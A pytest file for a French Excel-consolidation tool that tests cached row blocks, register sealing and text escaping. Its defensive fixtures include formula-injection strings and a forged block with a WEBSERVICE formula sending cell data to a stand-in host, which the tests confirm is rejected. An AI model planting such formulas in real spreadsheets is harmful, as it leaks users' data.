"""`Lignes` as position-free blocks, one per workbook (`consolidation_blocks`): the same cells and
styles as the table written row by row, the same workbook warm or cold, blocks kept by the register
and made again when they no longer fit."""

from __future__ import annotations

import io
import os
import shutil
import sqlite3
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from acv_xl import __version__
from acv_xl.checks.rules.consolidation import LINE_FIELDS, FileSummary, judge
from acv_xl.checks.totals import ZERO, Totaux
from acv_xl.checks.validate import ETAT_VALIDE
from acv_xl.contract import values as V
from acv_xl.history import register as R
from acv_xl.history.register_key import analysis_seal, block_key
from acv_xl.outputs import consolidation as C
from acv_xl.outputs import consolidation_blocks as B
from acv_xl.outputs import consolidation_workbook as W
from acv_xl.outputs.consolidation import Feuille

# what users type, and what a damaged or crafted workbook holds
HOSTILE = ["a<b>&c \"q\" 'x'", "ctrl\x01\x1f.", "_x0041_ lit", "_X00e9_", "  espaces  ", "fin ", "\tdébut",
           "=1+1", "@SOMME(A1)", "ligne\nsuivante", "ligne\n", "é€😀", "]]>", "<![CDATA[x]]>", "retour\r\nchariot",
           "non\ufffe\uffffcar", "x" * 40_000, "<r>brut & net</r>", "<r><t>x</t></r>", "<?xml?>", "&amp;"]


@pytest.fixture
def examples(shipped_examples):
    return shipped_examples


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
        return {n: z.read(n) for n in z.namelist()}


def _hostile_summary(rel: str = "x.xlsx") -> FileSummary:
    t = Totaux(financement_total=Decimal("1.00"), par_financeur={"X": Decimal("1.00")})
    lines = tuple((w, w, 1, w, w, None if i % 3 else w, 2025 if i % 2 else "2O25",
                   Decimal("1.00") if i == 0 else Decimal("0.50"), "Acquis", i == 0, "" if i == 0 else "refusé",
                   "Plan de financement", "F4") for i, w in enumerate(HOSTILE))
    gravites = ("information", "avertissement", "erreur")
    findings = tuple(("FIN-01" if i % 2 else w[:9], gravites[i % 3], w if i % 4 else None, "F4", None if i % 5 else w,
                      (w + " ") * (i % 7), None if i % 2 else w) for i, w in enumerate(HOSTILE))
    return FileSummary(path="/x", rel=rel, etat=ETAT_VALIDE, acv_id="ACV001", totaux=t, lines=lines, findings=findings,
                       libelle="<r>Arras</r>", communes=(" Arras", "Achicourt\x02"), date_validation=date(2026, 3, 2))


# ------------------------------------------------------------------ the texts and styles of a block
def test_inline_texts_are_escaped_as_xlsxwriter_escapes_its_shared_strings():
    from xlsxwriter.sharedstrings import SharedStrings

    for text in HOSTILE:
        if text.startswith("<r>") and text.endswith("</r>"):
            continue  # XlsxWriter writes those as raw rich text: the consolidation never gives it them
        ss = SharedStrings()
        ss.fh = io.StringIO()
        ss._write_si(text[:32767])  # XlsxWriter's `write_string` truncates as much
        si = ss.fh.getvalue()
        assert si.startswith("<si><t") and si.endswith("</t></si>")
        assert B.inline_text(text) == f' t="inlineStr"><is>{si[4:-5]}</is></c>', text


def test_the_blocks_use_the_xf_indexes_every_consolidated_workbook_gives_its_formats(tmp_path):
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(tmp_path / "w.xlsx"), {"in_memory": True})
    w = W._Writer(wb, C.ConsolidationResult([], []))
    assert {name: w.fmt[name]._get_xf_index() for name in W.XF} == W.XF
    assert W.XF["euros"] and W.XF["non"] and len(set(W.XF.values())) == len(W.XF)
    xml = B.lignes_xml(_hostile_summary())
    assert f's="{W.XF["euros"]}"' in xml and f's="{W.XF["non"]}"' in xml
    # every text wraps (counted lines), greyed where not counted; amounts in euros
    assert set(map(int, __import__("re").findall(r's="(\d+)"', xml))) == {W.XF["euros"], W.XF["non"],
                                                                           W.XF["texte_long"]}
    wb.close()


def test_a_block_has_no_position_and_no_shared_string():
    xml = B.lignes_xml(_hostile_summary())
    assert " r=" not in xml and 't="s"' not in xml and "<f" not in xml
    assert xml.count("<row") == len(HOSTILE) and "<c/></row>" not in xml  # trailing blanks left out


def _reference_lignes(self) -> None:
    """`Lignes` written row by row through `_Writer.table` (shared strings, `r` attributes), as
    the consolidation wrote it before its blocks: the reference the blocks are compared with."""
    ws = self.sheet(Feuille.LIGNES, "Lignes de financement de toutes les conventions comptées")
    rows = [(f.acv_id or W.SANS_ID, f.libelle) + tuple(line) + (" ; ".join(f.communes), f.rel)
            for f in self.r.counted for line in f.lines]
    compte, montant = 2 + LINE_FIELDS.index("compte"), 2 + LINE_FIELDS.index("montant")
    total = sum((row[montant] for row in rows if row[compte]), ZERO)
    self.table(ws, W.TABLES[Feuille.LIGNES], W.lignes_columns(), rows, W.lignes_total(W.lignes_columns(), len(rows), total),
               freeze_cols=W.LIGNES_KEYS, row_formats=[None if row[compte] else "non" for row in rows])


def _reference_anomalies(self) -> None:
    """`Anomalies` written row by row (rows sized by `_Writer.table`), as before its blocks."""
    ws = self.sheet(Feuille.ANOMALIES, "Anomalies de tous les fichiers (contrôles du classeur et CON)")
    _, last = self.table(ws, W.TABLES[Feuille.ANOMALIES], W.anomalies_columns(), B.anomalies_rows(self.r.anomalies),
                         freeze_cols=0)
    for lib, fmt in (("Erreur", "erreur"), ("Avertissement", "avertissement")):
        ws.conditional_format(3, 2, last, 2, {"type": "cell", "criteria": "==", "value": f'"{lib}"',
                                              "format": self.fmt[fmt]})


def _cells(path: Path) -> dict:
    """Every cell's value (calamine's: openpyxl leaves `_xHHHH_` escapes undecoded in inline strings,
    which Excel, LibreOffice and calamine decode), type and style (openpyxl's), each table's range."""
    from python_calamine import CalamineWorkbook

    values = CalamineWorkbook.from_path(str(path))
    wb = openpyxl.load_workbook(path)
    out = {}
    for ws in wb.worksheets:
        grid = values.get_sheet_by_name(ws.title).to_python(skip_empty_area=False)
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                f = c.font
                value = grid[c.row - 1][c.column - 1] if c.data_type != "f" else c.value
                out[(ws.title, c.coordinate)] = (value, c.data_type, c.number_format, f.b, f.i, f.sz,
                                                 f.color.rgb if f.color is not None else None, c.fill.fgColor.rgb,
                                                 c.alignment.wrap_text, c.alignment.vertical, c.border.left.style)
        out[(ws.title, "dimension")] = ws.dimensions
        out[(ws.title, "heights")] = sorted((k, d.height) for k, d in ws.row_dimensions.items() if d.height)
        out[(ws.title, "conditional")] = sorted(str(r.sqref) for r in ws.conditional_formatting)
        out[(ws.title, "tables")] = sorted((t.name, t.ref) for t in ws.tables.values())
    return out


def test_blocks_are_the_cells_and_styles_written_row_by_row(frozen_clock, example_folder, tmp_path, examples,
                                                            monkeypatch):
    """The shipped examples and hostile texts: every cell of every sheet, its value, type and style,
    the same as `Lignes` and `Anomalies` written row by row (and their tables, dimensions, totals,
    row heights, conditional formats)."""
    folder = example_folder
    hostile = _hostile_summary()
    r_hostile = C.ConsolidationResult([hostile], judge([hostile]))
    C.consolidate([folder], tmp_path / "blocs.xlsx", jobs=1)
    W.write_workbook(r_hostile, tmp_path / "hostile_blocs.xlsx")
    monkeypatch.setattr(W._Writer, "lignes", _reference_lignes)
    monkeypatch.setattr(W._Writer, "anomalies", _reference_anomalies)
    C.consolidate([folder], tmp_path / "lignes.xlsx", jobs=1)
    W.write_workbook(C.ConsolidationResult([hostile], judge([hostile])), tmp_path / "hostile_lignes.xlsx")
    for kind in ("", "hostile_"):
        blocs, rows = _cells(tmp_path / f"{kind}blocs.xlsx"), _cells(tmp_path / f"{kind}lignes.xlsx")
        assert blocs == rows
        for feuille in (Feuille.LIGNES, Feuille.ANOMALIES):
            assert sum(1 for k in blocs if k[0] == feuille) > (50 if not kind else len(HOSTILE)), feuille
        assert len(blocs[Feuille.ANOMALIES, "heights"]) > 3
    from python_calamine import CalamineWorkbook

    lignes = CalamineWorkbook.from_path(str(tmp_path / "hostile_blocs.xlsx")).get_sheet_by_name(Feuille.LIGNES)
    numeros = [row[2] for row in lignes.to_python()[3:3 + len(HOSTILE)]]  # the first of `LINE_FIELDS`
    # every text as it was (the non-characters U+FFFE and U+FFFF, escaped, are not read back by calamine)
    assert [n for n, t in zip(numeros, HOSTILE) if "\ufffe" not in t] == \
        [t[:32767] for t in HOSTILE if "\ufffe" not in t]


def test_a_workbook_written_without_a_packer_holds_the_same_lignes(tmp_path, monkeypatch):
    import xlsxwriter

    hostile = _hostile_summary()
    r = C.ConsolidationResult([hostile], judge([hostile]))
    W.write_workbook(r, tmp_path / "a.xlsx")
    wb = xlsxwriter.Workbook(str(tmp_path / "b.xlsx"), {"strings_to_formulas": False, "default_date_format": W.DATE})
    W._Writer(wb, r).write()  # no packer: the blocks inflated into the sheet's text
    wb.close()
    assert _cells(tmp_path / "a.xlsx") == _cells(tmp_path / "b.xlsx")


# ------------------------------------------------------------------ warm, cold, and the register
def _blocs_made(monkeypatch) -> list[tuple[str, str]]:
    """The blocks made from now on (sheet, rel), by the workers or the writer."""
    made: list[tuple[str, str]] = []
    for name, feuille in (("lignes_bloc", B.LIGNES), ("anomalies_bloc", B.ANOMALIES)):
        real = getattr(B, name)
        monkeypatch.setattr(B, name, lambda f, real=real, feuille=feuille: made.append((feuille, f.rel)) or real(f))
    return made


def test_warm_run_is_the_cold_workbook_byte_for_byte_with_the_registers_blocks(frozen_clock, example_folder,
                                                                               tmp_path, examples, monkeypatch):
    folder = example_folder
    reg = tmp_path / "registre.sqlite"
    C.consolidate([folder], tmp_path / "froid.xlsx", jobs=1)
    with R.Register.open(reg, __version__) as r:
        result = C.consolidate([folder], tmp_path / "premier.xlsx", jobs=1, cache=r, record=r)
    con = sqlite3.connect(reg)
    with_findings = {f.rel for f in result.files if f.findings}
    assert with_findings and sorted(con.execute("SELECT chemin, feuille FROM blocs")) == sorted(
        [(p.name, B.LIGNES) for p in examples] + [(rel, B.ANOMALIES) for rel in with_findings])
    con.close()
    made = _blocs_made(monkeypatch)
    with R.Register.open(reg, __version__) as r:
        result = C.consolidate([folder], tmp_path / "chaud.xlsx", jobs=1, cache=r, record=r)
    assert made == [] and all(b.kept for b in result.blocs.values())  # every block from the register
    cold = _parts(tmp_path / "froid.xlsx")
    assert _parts(tmp_path / "premier.xlsx") == cold and _parts(tmp_path / "chaud.xlsx") == cold
    # a damaged block, one whose check no longer matches, one left of a summary edited since: made again
    con = sqlite3.connect(reg)
    names = sorted(with_findings)  # files with a block of each sheet
    con.execute("UPDATE blocs SET deflate = X'00' || deflate WHERE chemin = ? AND feuille = ?", (names[0], B.LIGNES))
    con.execute("UPDATE blocs SET controle = controle + 1 WHERE chemin = ? AND feuille = ?", (names[1], B.ANOMALIES))
    aid = con.execute("SELECT analyse_id FROM blocs WHERE chemin = ?", (names[2],)).fetchone()[0]
    resume = con.execute("SELECT resume FROM analyses WHERE id = ?", (aid,)).fetchone()[0]
    libelle = con.execute("SELECT libelle FROM analyses WHERE id = ?", (aid,)).fetchone()[0]
    # edited and sealed again with this user's key (a summary edited by any other hand is not reused at
    # all: test_register_seal): the block made from the summary before is not joined beside it
    edited = resume.replace(f'"libelle":"{libelle}"', '"libelle":"Libellé corrigé"')
    sha, version, until = con.execute("SELECT sha256, version_regles, valable_jusqu_au FROM analyses WHERE id = ?",
                                      (aid,)).fetchone()
    con.execute("UPDATE analyses SET resume = ?, controle = ? WHERE id = ?",
                (edited, analysis_seal(block_key(), sha, version, until, edited.encode()), aid))
    con.commit()
    con.close()
    made.clear()
    with R.Register.open(reg, __version__) as r:
        result = C.consolidate([folder], tmp_path / "chaud2.xlsx", jobs=1, cache=r, record=r)
    assert sorted(made) == sorted([(B.LIGNES, names[0]), (B.ANOMALIES, names[1]), (B.LIGNES, names[2]),
                                   (B.ANOMALIES, names[2])]) and len(result.reused) == len(examples)
    warm2 = _parts(tmp_path / "chaud2.xlsx")
    assert {n for n in cold if cold[n] != warm2[n]} <= {"xl/sharedStrings.xml"} | {
        f"xl/worksheets/sheet{k}.xml" for k in range(1, 8)}  # the corrected libellé only
    lignes = openpyxl.load_workbook(tmp_path / "chaud2.xlsx")[Feuille.LIGNES]
    assert "Libellé corrigé" in {c.value for c in lignes["B"]}
    # the blocks made again are recorded: the next warm run makes none
    made.clear()
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "chaud3.xlsx", jobs=1, cache=r, record=r)
    assert made == [] and _parts(tmp_path / "chaud3.xlsx") == warm2


def test_the_same_content_in_two_places_has_a_block_each(example_folder, tmp_path, examples, monkeypatch):
    folder = example_folder
    shutil.copy2(examples[0], folder / "copie.xlsx")
    reg = tmp_path / "registre.sqlite"
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "a.xlsx", jobs=1, cache=r, record=r)
    made = _blocs_made(monkeypatch)
    with R.Register.open(reg, __version__) as r:
        result = C.consolidate([folder], tmp_path / "b.xlsx", jobs=1, cache=r, record=r)
    assert made == []
    for f in result.counted:
        assert result.blocs[B.LIGNES, f.rel].rel == f.rel
        assert not f.findings or result.blocs[B.ANOMALIES, f.rel].rel == f.rel
    assert {rel for _feuille, rel in result.blocs} >= {"copie.xlsx", examples[0].name}


def test_a_register_of_schema_1_is_migrated_and_gets_its_blocks(example_folder, tmp_path, examples):
    reg = tmp_path / "ancien.sqlite"
    con = sqlite3.connect(reg)
    for statement in R.MIGRATIONS[1]:
        con.execute(statement)
    con.execute(f"PRAGMA application_id = {R.APPLICATION_ID}")
    con.execute("PRAGMA user_version = 1")
    con.commit()
    con.close()
    folder = example_folder
    with R.Register.open(reg, __version__) as r:
        result = C.consolidate([folder], tmp_path / "a.xlsx", jobs=1, cache=r, record=r)
    con = sqlite3.connect(reg)
    assert con.execute("PRAGMA user_version").fetchone()[0] == R.SCHEMA_VERSION == 3
    assert con.execute("SELECT COUNT(*) FROM blocs").fetchone()[0] == len(result.blocs) > len(examples)
    con.close()


def test_a_register_of_schema_1_only_read_by_historique_is_left_as_it_was(example_folder, tmp_path, examples,
                                                                          monkeypatch):
    """`historique` only reads: a register of the previous schema (on a read-only medium, say) is read
    as it is, never migrated."""
    from acv_xl.cli import main

    reg = tmp_path / "ancien.sqlite"
    folder = example_folder
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "a.xlsx", jobs=1, cache=r, record=r)
    con = sqlite3.connect(reg)  # back to schema 1, as the previous acv-xl wrote it
    con.execute("DROP TABLE blocs")
    con.execute("ALTER TABLE analyses DROP COLUMN controle")
    con.execute("PRAGMA user_version = 1")
    con.close()
    before = reg.read_bytes()
    assert main(["historique", str(reg), "-o", str(tmp_path / "e.xlsx")]) == 0
    assert reg.read_bytes() == before and (tmp_path / "e.xlsx").exists()
    with R.Register.open(reg, __version__) as r:  # a consolidation migrates it
        C.consolidate([folder], tmp_path / "b.xlsx", jobs=1, cache=r, record=r)
    con = sqlite3.connect(reg)
    assert con.execute("PRAGMA user_version").fetchone()[0] == R.SCHEMA_VERSION
    assert con.execute("SELECT COUNT(*) FROM blocs").fetchone()[0] > 0
    con.close()


def test_the_block_builder_and_its_vocabulary_are_in_the_rules_version(monkeypatch):
    R.rules_version.cache_clear()
    before = R.rules_version("1.0")
    try:
        for target, name, value in ((B, "OUI", "Vrai"), (B, "SANS_ID", "?"), (V, "EXCEL_CELL_CHARS", 100)):
            with monkeypatch.context() as m:
                m.setattr(target, name, value)
                R.rules_version.cache_clear()
                assert R.rules_version("1.0") != before, name
        with monkeypatch.context() as m:
            m.setitem(W.XF, "non", 99)
            R.rules_version.cache_clear()
            assert R.rules_version("1.0") != before
    finally:
        R.rules_version.cache_clear()
    assert R.rules_version("1.0") == before


def test_every_constant_the_row_heights_of_the_blocks_read_is_in_the_rules_version(monkeypatch):
    """The stored blocks hold row heights: each constant the measure reads is in the rules version, or
    a change of it (the room of Calibri's digit, `_CALIBRI_DIGIT_EM`, was not) kept the old heights."""
    from acv_xl.outputs import page_layout as P

    names = set()
    for fn in (P.fit_width, P.row_height, P.text_lines, P._text_lines, P._chars, P._calibri_room,
               P._wrapped_lines, P._em_width, P.column_points, P.one_line_chars):
        stack = [getattr(fn, "__wrapped__", fn).__code__]
        while stack:
            code = stack.pop()
            names.update(code.co_names)
            stack.extend(c for c in code.co_consts if isinstance(c, type(code)))
    constants = {n: v for n, v in vars(P).items() if n in names and isinstance(v, (int, float, tuple, dict))}
    assert {"_CALIBRI_DIGIT_EM", "CALIBRI_ROOM", "_FONTS"} <= constants.keys()
    R.rules_version.cache_clear()
    before = R.rules_version("1.0")
    try:
        for name, value in constants.items():
            with monkeypatch.context() as m:
                m.setattr(P, name, {**value, "autre": ()} if isinstance(value, dict)
                          else value + (0,) if isinstance(value, tuple) else value * 1.01)
                R.rules_version.cache_clear()
                assert R.rules_version("1.0") != before, name
    finally:
        R.rules_version.cache_clear()
    assert R.rules_version("1.0") == before


# ------------------------------------------------------------------ the seal of the blocks (register_key)
def _formula_block(rel: str) -> tuple[bytes, int, int]:
    """A block as one forging a register would write it: a formula sending data away, its stream,
    length and CRC-32 right."""
    import zlib

    xml = ('<row><c t="str"><f>WEBSERVICE("https://exemple.invalid/?"&amp;A4)</f><v>x</v></c></row>').encode()
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(xml) + c.flush(zlib.Z_SYNC_FLUSH), len(xml), zlib.crc32(xml)


def test_a_block_forged_in_the_register_is_made_again_never_joined(frozen_clock, example_folder, tmp_path,
                                                                   examples, monkeypatch):
    """A register from elsewhere whose block carries a formula, every check a forger can compute
    right (stream, length, CRC-32, and the check of the summary it claims): not joined; the
    workbook is the cold one, and the block made again is kept sealed with this user's key."""
    import zlib

    from acv_xl.history import register_key as K

    folder = example_folder
    reg = tmp_path / "registre.sqlite"
    C.consolidate([folder], tmp_path / "froid.xlsx", jobs=1)
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "premier.xlsx", jobs=1, cache=r, record=r)
    con = sqlite3.connect(reg)
    rel = examples[0].name
    aid, rows = con.execute("SELECT analyse_id, lignes FROM blocs WHERE chemin = ? AND feuille = ?",
                            (rel, B.LIGNES)).fetchone()  # its count of rows kept: what the writer checks
    resume, = con.execute("SELECT resume FROM analyses WHERE id = ?", (aid,)).fetchone()
    data, length, crc = _formula_block(rel)
    summary_crc = zlib.crc32(resume.encode("utf-8"))
    # what a forger can compute: the unkeyed check, and a seal under a key of their own
    for check in (zlib.crc32(data, summary_crc),
                  K.seal(b"k" * 32, summary_crc, B.LIGNES, con.execute(
                      "SELECT sha256 FROM blocs WHERE analyse_id = ?", (aid,)).fetchone()[0], rel, rows, length, crc, data)):
        con.execute("UPDATE blocs SET deflate = ?, longueur = ?, crc32 = ?, controle = ? "
                    "WHERE analyse_id = ? AND chemin = ? AND feuille = ?", (data, length, crc, check, aid, rel, B.LIGNES))
        con.commit()
        made = _blocs_made(monkeypatch)
        with R.Register.open(reg, __version__) as r:
            C.consolidate([folder], tmp_path / "chaud.xlsx", jobs=1, cache=r, record=r)
        assert (B.LIGNES, rel) in made
        assert _parts(tmp_path / "chaud.xlsx") == _parts(tmp_path / "froid.xlsx")
        assert not any(b"WEBSERVICE" in v for v in _parts(tmp_path / "chaud.xlsx").values())
        # the block made again replaced the forged one, sealed with this user's key: reused next time
        stored, = con.execute("SELECT deflate FROM blocs WHERE analyse_id = ? AND chemin = ? AND feuille = ?",
                              (aid, rel, B.LIGNES)).fetchone()
        assert stored != data
        made.clear()
        with R.Register.open(reg, __version__) as r:
            C.consolidate([folder], tmp_path / "chaud2.xlsx", jobs=1, cache=r, record=r)
        assert made == []
    con.close()


def test_another_users_register_has_its_blocks_made_again_and_a_run_without_key_keeps_none(
        frozen_clock, example_folder, tmp_path, examples, monkeypatch):
    """Blocks sealed under another key (another user or machine) are made again, the same workbook;
    without a usable key, none is reused nor kept, the same workbook again."""
    from acv_xl.history import register_key as K

    folder = example_folder
    reg = tmp_path / "registre.sqlite"
    C.consolidate([folder], tmp_path / "froid.xlsx", jobs=1)
    cold = _parts(tmp_path / "froid.xlsx")
    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "cle-a"))
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "a.xlsx", jobs=1, cache=r, record=r)
    kept = sqlite3.connect(reg).execute("SELECT COUNT(*) FROM blocs").fetchone()[0]
    assert kept > 0 and (tmp_path / "cle-a").stat().st_mode & 0o777 == 0o600
    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "cle-b"))  # another user
    made = _blocs_made(monkeypatch)
    with R.Register.open(reg, __version__) as r:
        C.consolidate([folder], tmp_path / "b.xlsx", jobs=1, cache=r, record=r)
    assert len(made) == kept and _parts(tmp_path / "b.xlsx") == cold
    made.clear()
    with R.Register.open(reg, __version__) as r:  # sealed again with this one's key: reused now
        C.consolidate([folder], tmp_path / "b2.xlsx", jobs=1, cache=r, record=r)
    assert made == [] and _parts(tmp_path / "b2.xlsx") == cold
    # no usable key: a folder of settings that cannot be made (a file stands there)
    (tmp_path / "fichier").write_text("")
    monkeypatch.setenv(K.KEY_ENV, str(tmp_path / "fichier" / "cle"))
    reg2 = tmp_path / "registre2.sqlite"
    for out in ("c.xlsx", "c2.xlsx"):
        with R.Register.open(reg2, __version__) as r:
            C.consolidate([folder], tmp_path / out, jobs=1, cache=r, record=r)
        assert _parts(tmp_path / out) == cold
    assert sqlite3.connect(reg2).execute("SELECT COUNT(*) FROM blocs").fetchone()[0] == 0


def test_the_key_is_made_once_readable_by_its_owner_and_a_damaged_one_left_as_it_is(tmp_path, monkeypatch):
    from acv_xl.history import register_key as K

    path = tmp_path / "reglages" / "acv-xl" / K.KEY_NAME
    monkeypatch.setenv(K.KEY_ENV, str(path))
    monkeypatch.setattr(K, "_cached", {})
    key = K.block_key()
    assert key is not None and len(key) == 32 and path.stat().st_mode & 0o777 == 0o600
    monkeypatch.setattr(K, "_cached", {})
    assert K.block_key() == key  # read again, not made anew
    path.write_text("abîmée\n")
    monkeypatch.setattr(K, "_cached", {})
    assert K.block_key() is None and path.read_text() == "abîmée\n"
    # where no variable names it: in the user's settings
    monkeypatch.delenv(K.KEY_ENV)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    if not K.sys.platform.startswith(("win", "darwin")):
        assert K.key_path() == tmp_path / "xdg" / "acv-xl" / K.KEY_NAME


def test_the_blocks_memos_never_keep_a_pasted_text():
    """The cells remembered across workbooks (a process's own, for its life) hold no long text: a
    line of 32,767 characters is written, not kept."""
    from acv_xl.contract.values import MEMO_TEXT_MAX

    s = _hostile_summary("long.xlsx")
    xml = B.lignes_xml(s)
    assert "x" * 40 in xml
    table = B._builder(B.LIGNES)
    memos = table.plain + table.other + list(table.by_value.values())
    kept = [k[1] if isinstance(k, tuple) else k for m in memos for k in m]
    assert kept and not any(type(v) is str and len(v) > MEMO_TEXT_MAX for v in kept)


def test_the_row_heights_remembered_never_keep_a_quoted_pasted_text():
    """A finding's message may quote a pasted cell (30,000 characters): its row's height is measured,
    not kept with it for the process's life (50,000 such keys would hold gigabytes)."""
    from acv_xl.contract.values import MEMO_TEXT_MAX
    from acv_xl.outputs.consolidation_result import own_anomalies

    B._HEIGHTS.clear()
    s = _hostile_summary("quote.xlsx")
    long = "Z" * (MEMO_TEXT_MAX + 1)
    s.findings = (("FIN-01", "erreur", "Plan de financement", "F4", None, f"« {long} » inconnu", None),
                  ("FIN-01", "erreur", "Plan de financement", "F5", None, "Court", None))
    xml = B.anomalies_xml(own_anomalies(s))
    assert long in xml and 'customHeight="1"' in xml  # measured and written all the same
    assert B._HEIGHTS and not any(type(t) is str and len(t) > MEMO_TEXT_MAX for k in B._HEIGHTS for t in k)


def test_a_workbooks_zero_amounts_are_the_same_cells_whatever_was_read_before():
    """-0 and 0 are one key of the cells remembered by a process: a workbook's block must not depend
    on whether another one with a « -0 » was made before it (cold and warm runs would differ)."""
    def with_montant(z, rel):
        s = _hostile_summary(rel)
        s.lines = tuple(line[:7] + (z,) + line[8:] for line in s.lines)
        return s

    B._builder.cache_clear()
    alone = B.lignes_xml(with_montant(Decimal("0.00"), "b.xlsx"))
    B._builder.cache_clear()
    negative = B.lignes_xml(with_montant(Decimal("-0.00"), "a.xlsx"))
    after = B.lignes_xml(with_montant(Decimal("0.00"), "b.xlsx"))
    assert after == alone and "<v>0.0</v>" in negative and "-0.0" not in negative + after


def test_a_workbook_numbering_its_styles_otherwise_is_refused_not_written_with_wrong_styles(tmp_path):
    """The blocks name their styles by fixed numbers (`XF`): an XlsxWriter that numbers them otherwise
    (here: a style numbered before ours) must stop the writing, not give amounts another cell's style."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(tmp_path / "w.xlsx"), {"in_memory": True})
    wb.add_format({"bold": True})._get_xf_index()  # takes number 1
    with pytest.raises(RuntimeError, match="XlsxWriter"):
        W._Writer(wb, C.ConsolidationResult([], []))
    wb.close()


def test_a_key_that_could_not_be_written_whole_is_not_left_behind(tmp_path, monkeypatch):
    from acv_xl.history import register_key as K

    path = tmp_path / "acv-xl" / K.KEY_NAME
    monkeypatch.setenv(K.KEY_ENV, str(path))
    monkeypatch.setattr(K, "_cached", {})
    real_fdopen = os.fdopen

    class Full:
        def __init__(self, fd, *a, **k):
            self.fh = real_fdopen(fd, *a, **k)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def write(self, text):
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(K.os, "fdopen", Full)
    assert K.block_key() is None and not path.exists()
    monkeypatch.setattr(K.os, "fdopen", real_fdopen)
    monkeypatch.setattr(K, "_cached", {})
    assert K.block_key() is not None  # made at the next run, once there is room


# ------------------------------------------------------------------ `Lignes` on paper
def test_lignes_wraps_its_long_texts_in_rows_tall_enough_and_leaves_the_others_one_line(tmp_path):
    """An intitulé, a libellé longer than their column were cut on paper by the filled cell beside
    them: every text of `Lignes` wraps, in a row as tall as its longest text (the convention's
    cells on each of its rows), greyed where the line is not counted; short rows keep the default
    height, « Plan de financement » fits its column."""
    from acv_xl.outputs import page_layout

    t = Totaux(financement_total=Decimal("3.00"), par_financeur={"ETAT": Decimal("3.00")})
    long = "Réhabilitation complète de l'îlot Saint-Jean et de ses abords, tranche deux incluse"
    line = ("1.1", "Court", 1, "ETAT", "DSIL", "Investissement", 2025, Decimal("1.00"), "Acquis", True, "",
            "Plan de financement", "F4")
    lines = (line, line[:1] + (long,) + line[2:], line[:1] + (long,) + line[2:9] + (False, "refusé") + line[11:],
             line[:1] + ("deux\nlignes",) + line[2:], line[:1] + ("deux\rlignes",) + line[2:])
    s = FileSummary(path="/x", rel="a.xlsx", etat=ETAT_VALIDE, acv_id="ACV001", totaux=t, lines=lines,
                    libelle="Arras", communes=("Arras",))
    other = FileSummary(path="/y", rel="b.xlsx", etat=ETAT_VALIDE, acv_id="ACV002", totaux=t, lines=(line,),
                        libelle="Communauté urbaine d'Arras et communes associées du programme", communes=("Arras",))
    W.write_workbook(C.ConsolidationResult([s, other], judge([s, other])), tmp_path / "c.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "c.xlsx")[Feuille.LIGNES]
    heights = {r: ws.row_dimensions[r].height for r in range(4, 10)}
    width = page_layout.fit_width(36, W.H.INTITULE)
    assert heights[4] is None  # all short: one line, no height of its own
    assert heights[5] == heights[6] == page_layout.row_height([(long, width)]) >= 2 * page_layout.LINE_PT
    assert heights[7] == page_layout.row_height([("deux\nlignes", width)])
    assert heights[8] == heights[7]  # a carriage return alone breaks the line in print too
    assert heights[9] and heights[9] >= 2 * page_layout.LINE_PT  # the other convention's long libellé
    for r in (5, 6):
        assert ws.cell(r, 4).value == long and ws.cell(r, 4).alignment.wrap_text
    assert ws.cell(6, 4).font.i and not ws.cell(5, 4).font.i  # the line not counted: greyed, wrapped
    assert ws.cell(4, 14).value == "Plan de financement" and ws.cell(4, 14).alignment.wrap_text


def test_a_text_of_emoji_is_cut_to_what_a_cell_holds_as_excel_counts(tmp_path):
    """A financeur cell of 20 000 emoji (STR-10: 40 000 characters to Excel, which counts UTF-16
    units): the writers cut texts at 32 767 Python characters, so `Lignes` and `Anomalies` (CON-05
    quotes the code) held it whole, 40 000 to Excel, which repairs such a file. Every text of the
    consolidation now holds at most 32 767 as Excel counts, cut between two emoji, never inside one."""
    import re

    from _hostile_files import FIN_PART, _rewrite, _set_first_funder

    emoji = "\U0001F600"
    folder = tmp_path / "dep"
    folder.mkdir()
    _rewrite(Path(__file__).parents[1] / "workbooks" / "exemples" / "arras.xlsx", folder / "arras.xlsx",
             {FIN_PART: lambda xml: _set_first_funder(xml, (emoji * 20_000).encode())})
    C.consolidate([folder], tmp_path / "c.xlsx", jobs=1)
    texts = []
    with zipfile.ZipFile(tmp_path / "c.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/") and name.endswith(".xml"):
                texts += re.findall(r"<t[^>]*>([^<]*)</t>", z.read(name).decode("utf-8"))
    long = [t for t in texts if emoji * 100 in t]
    assert len(long) >= 2  # the financeur in Lignes, CON-05's message in Anomalies
    assert all(len(t.encode("utf-16-le")) // 2 <= V.EXCEL_CELL_CHARS for t in long)
    assert all("\ud83d" not in t for t in long)  # no half of an emoji left at the cut
    assert max(len(t.encode("utf-16-le")) // 2 for t in long) == V.EXCEL_CELL_CHARS - 1  # cut, not dropped
